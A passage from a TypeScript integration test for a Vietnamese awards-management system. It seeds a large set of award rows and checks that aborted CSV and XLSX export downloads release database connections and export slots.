       VALUES ($1, 'DEPARTMENT_HEAD', 2024, 1, '01/QĐ-STTTT', '2024-01-23', 'Vũ Anh Dũng', 'Giám đốc', 'DIRECT', 'TDKT_2022_ND98') RETURNING id`,
      [tree.department.id],
    );
    // One statement of ≈ 100 MB: no statement timeout of the test database's role on a loaded machine.
    await t.db.transaction(async (manager) => {
      await manager.query('SET LOCAL statement_timeout = 0');
      await manager.query(
        `INSERT INTO awards (decision_id, decision_number, year, award_code, basis, recipient_kind, organization_id,
                           proposing_organization_id, recipient_name, organization_name, issued_on, regime, bonus_amount,
                           verification_code, period_from, period_to)
       SELECT $1, (SELECT number_text FROM decisions WHERE id = $1), 2023, 'GIAY_KHEN', 'REGULAR', 'COLLECTIVE', $2, $3, 'Tổ công tác số ' || i,
              'Trung tâm ' || repeat('Công nghệ thông tin và Truyền thông tỉnh Điện Biên ', 40), '2024-01-23', 'TDKT_2022_ND98',
              1170000, 'ABORT' || lpad(i::text, 15, '0'), 2023, 2023
         FROM generate_series(1, ${ROWS}) i`,
        [decision.id, tree.unit.id, tree.department.id],
      );
    });
  });
  afterAll(async () => {
    await t.close();
  });

  /** Starts a download, reads its first chunk, then drops the connection. */
  function abortAfterFirstChunk(path: string): Promise<number> {
    return new Promise((resolve, reject) => {
      const request = http.get({ host: '127.0.0.1', port, path, headers: bearer(auditor) }, (response) => {
        response.once('data', () => {
          request.destroy();
          resolve(response.statusCode ?? 0);
        });
        response.on('error', () => undefined);
      });
      request.on('error', (error) => {
        if (!request.destroyed) reject(error);
      });
    });
  }

  /** Statements of this database still running an export. */
  async function runningExports(): Promise<number> {
    const rows: { count: number }[] = await t.db.query(
      `SELECT count(*)::int AS count FROM pg_stat_activity
        WHERE datname = current_database() AND pid <> pg_backend_pid()
          AND (query LIKE 'COPY (SELECT%' OR query LIKE 'SELECT a.id::text AS "awardId"%') AND state <> 'idle'`,
    );
    return rows[0].count;
  }

  async function waitUntilNoExportRuns(): Promise<void> {
    for (let attempt = 0; attempt < 100 && (await runningExports()) > 0; attempt++)
      await new Promise((r) => setTimeout(r, 100));
    expect(await runningExports()).toBe(0);
  }

  it.each(['csv', 'xlsx'] as const)(
    '%s: stops the statement and gives back the connection and the export slot when the client goes away',
    async (format) => {
      // More aborted downloads than the pool has connections (10) and than exports may run at once (4).
      for (let i = 0; i < 12; i++) {
        expect(await abortAfterFirstChunk(`/api/v1/exports/awards.${format}`)).toBe(200);
        await waitUntilNoExportRuns();
      }
      const complete = await t.http
        .get(`/api/v1/exports/awards.${format}`)
        .set(bearer(auditor))
        .buffer(true)
        .parse(binary)
        .expect(200);
      if (format === 'csv') expect(parse(complete.body as Buffer, { bom: true, columns: true })).toHaveLength(ROWS);
      else expect((complete.body as Buffer).length).toBeGreaterThan(100_000);
    },
    240_000,
  );
});
